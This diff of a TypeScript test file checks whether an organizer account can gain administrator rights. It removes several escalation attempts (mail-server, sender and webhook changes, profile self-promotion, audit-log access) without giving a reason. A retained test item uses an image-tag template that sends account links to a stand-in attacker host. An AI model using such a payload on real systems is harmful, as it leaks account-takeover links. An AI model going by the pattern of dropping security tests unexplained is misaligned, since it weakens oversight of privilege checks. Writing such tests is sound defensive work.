@@ -1,19 +1,15 @@
 /**
- * Every change by which an organizer could gain administrator rights. docs/security.md has the same table.
+ * Every change by which an organizer could gain administrator rights, with endpoints that organizers may call;
+ * the access matrix has those of administrators.
  */
-import { afterAll, beforeEach, expect, test } from 'vitest'
+import { beforeEach, expect, test } from 'vitest'
 import { aPerson, aSessionCookie, aUser } from '../../tests/kit/builders.ts'
-import { createTestDatabase } from '../../tests/kit/database.ts'
-import { createTestApi, createTestServices } from '../../tests/kit/services.ts'
 import { aTemplateInput } from '../../tests/kit/templates.ts'
+import { openTestServices } from '../../tests/kit/test-services.ts'
 import { passwords } from '../features/accounts/tables.ts'
-import { mailSettings } from '../features/email/tables.ts'
 import { people } from '../features/people/tables.ts'
 
-const database = await createTestDatabase()
-const { db } = database
-const services = await createTestServices(database)
-const api = createTestApi(services)
+const { db, api } = await openTestServices()
 
 interface Cast {
   readonly own: number
@@ -35,11 +31,6 @@ beforeEach(async () => {
   headers = { Cookie: await aSessionCookie(db, own.id) }
 })
 
-afterAll(async () => {
-  await services.close()
-  await database.close()
-})
-
 type Attempt = readonly [what: string, path: string, body: (cast: Cast) => unknown, status?: number]
 
 const newPassword = 'Chosen-by-someone-else-9'
@@ -53,11 +44,6 @@ const attempts: readonly Attempt[] = [
     ({ attendee }) => ({ userId: attendee, role: 'admin' }),
   ],
   ['demotes an admin', '/users/update-details', ({ admin }) => ({ userId: admin, role: 'staff' })],
-  [
-    'makes themselves admin through the profile',
-    '/attendees/update-profile',
-    ({ own }) => ({ userId: own, role: 'admin' }),
-  ],
   [
     'creates an admin',
     '/users',
@@ -91,17 +77,6 @@ const attempts: readonly Attempt[] = [
   ],
   ['deletes an admin', '/users/delete', ({ admin }) => ({ userId: admin })],
   [
-    'switches to another mail server',
-    '/email/config/update',
-    () => ({ baseUrl: 'smtp://mail.example.ph:587', apiKey: 'own-key' }),
-  ],
-  ['changes the sender', '/email/config/update', () => ({ senderEmail: newEmail })],
-  [
-    'changes the webhook secret',
-    '/email/config/update',
-    () => ({ webhookSecret: 'a secret of their own 1' }),
-  ],
-  [
     'creates an account link template',
     '/email/templates/create',
     () => aTemplateInput({ templateType: 'account_link', htmlTemplate: '<a href="{{ accountLink }}">x</a>' }),
@@ -112,7 +87,6 @@ const attempts: readonly Attempt[] = [
     () => aTemplateInput({ htmlTemplate: '<img src="https://evil.example/?{{ accountLink }}">' }),
     400,
   ],
-  ['removes sample data', '/attendees/remove-sample-data', () => ({})],
 ]
 
 test.for(attempts)(
@@ -122,7 +96,6 @@ test.for(attempts)(
       Promise.all([
         db.select({ id: people.id, email: people.email, role: people.role }).from(people),
         db.select().from(passwords),
-        db.$count(mailSettings),
       ])
     const before = await state()
     const { status } = await api.call(path, { body: body(cast), headers })
@@ -131,8 +104,7 @@ test.for(attempts)(
   },
 )
 
-test('Privilege escalation: an organizer can read neither the audit log nor account link e-mails', async () => {
-  expect((await api.call('/audit-log', { headers })).status).toBe(403)
+test('Privilege escalation: an organizer cannot read account link e-mails', async () => {
   await api.call('/users/send-password-link', { body: { userId: cast.attendee }, headers })
   const { body } = await api.call<{ messages: { id: number }[] }>('/email/outbox', { headers })
   const texts = await Promise.all(
